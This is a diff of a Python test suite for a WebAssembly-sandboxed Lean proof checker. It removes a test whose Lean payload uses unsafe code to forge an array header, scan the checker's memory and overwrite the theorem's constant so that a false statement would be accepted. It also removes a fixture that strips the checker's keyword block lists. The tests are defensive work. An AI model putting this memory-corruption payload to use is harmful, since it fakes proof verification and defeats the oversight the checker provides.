@@ -1,7 +1,5 @@
 """The process of the WebAssembly Lean: its memory, its image, what it can reach."""
 
-import re
-import shutil
 import subprocess
 import sys
 import time
@@ -97,58 +95,3 @@ os.kill(os.getpid(), 9)
     while any(tmp_path.iterdir()) and time.monotonic() < deadline:
         time.sleep(0.05)
     assert list(tmp_path.iterdir()) == []
-
-
-# It makes Lean run code that finds the statement's 1000004 in Lean's memory and writes 1000003 there.
-# `fake` is an array of bytes whose header lies in another's data, and which has no end.
-REWRITE = """first
-  | (set_option compiler.extract_closed false in
-     have h : (unsafe (
-      let bytes := (ByteArray.mk #[
-        1, 0, 0, 0, 0, 0, 1, 248, 255, 255, 255, 127, 255, 255, 255, 127,
-        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]).uset 0 1 lcProof
-      let here : USize := ptrAddrUnsafe bytes
-      let header : USize := here + 16
-      let bytes := bytes.uset 16 header.toUInt8 lcProof
-      let bytes := bytes.uset 17 (header >>> 8).toUInt8 lcProof
-      let bytes := bytes.uset 18 (header >>> 16).toUInt8 lcProof
-      let bytes := bytes.uset 19 (header >>> 24).toUInt8 lcProof
-      let array : Array ByteArray := #[ByteArray.empty]
-      let index : USize := (here + 32 - (ptrAddrUnsafe array + 16)) / 4
-      let fake := if bytes.size > 0 then array.uget index lcProof else ByteArray.empty
-      let bytes := bytes.uset (if fake.size > 0 then 0 else 1) 1 lcProof
-      let fake := if bytes.size > 0 then (List.range 600000).foldl (fun (fake : ByteArray) k =>
-        let spot : USize := 4 * USize.ofNat k - 1200000
-        if fake.uget spot lcProof == 137 && fake.uget (spot + 1) lcProof == 132
-          && fake.uget (spot + 2) lcProof == 30 && fake.uget (spot + 3) lcProof == 0
-        then fake.uset spot 135 lcProof else fake) fake else fake
-      (fake.uset (0 - 16) 100 lcProof).size > 0) : Bool) = true := by native_decide
-     fail)
-  | exact (rfl : (1000003 : Nat) = 1000003)"""
-REWRITTEN = ("p1", "theorem p1 : (1000003 : Nat) = 1000004 := by\n  ", REWRITE)
-
-
-@pytest.fixture(scope="module")
-def open_to_code(tmp_path_factory):
-    """A checker whose author refuses no word: the judge alone stands."""
-    folder = tmp_path_factory.mktemp("open")
-    for script in launch.HERE.glob("*.js"):
-        shutil.copy(script, folder)
-    author = folder / "author.js"
-    opened, count = re.subn(
-        r"const (CODE|OPTIONS) = new Set\(\[[^]]*\]\)", r"const \1 = new Set()", author.read_text()
-    )
-    assert count == 2
-    author.write_text(opened)
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(launch, "HERE", folder)
-        patch.setattr(launch, "image_path", lambda *_: folder / "image")
-        with LeanChecker(timeout=60) as checker:
-            checker.wait_ready()
-            yield checker
-
-
-def test_a_proof_that_rewrites_leans_memory_does_not_reach_the_judge(open_to_code):
-    assert open_to_code.check(*REWRITTEN).reason == reasons.FORBIDDEN  # `the statement changed`
-    assert open_to_code.check(*TRUE).reason == reasons.PASSED
-    assert open_to_code.check(*FALSE).reason == reasons.WRONG_ANSWER
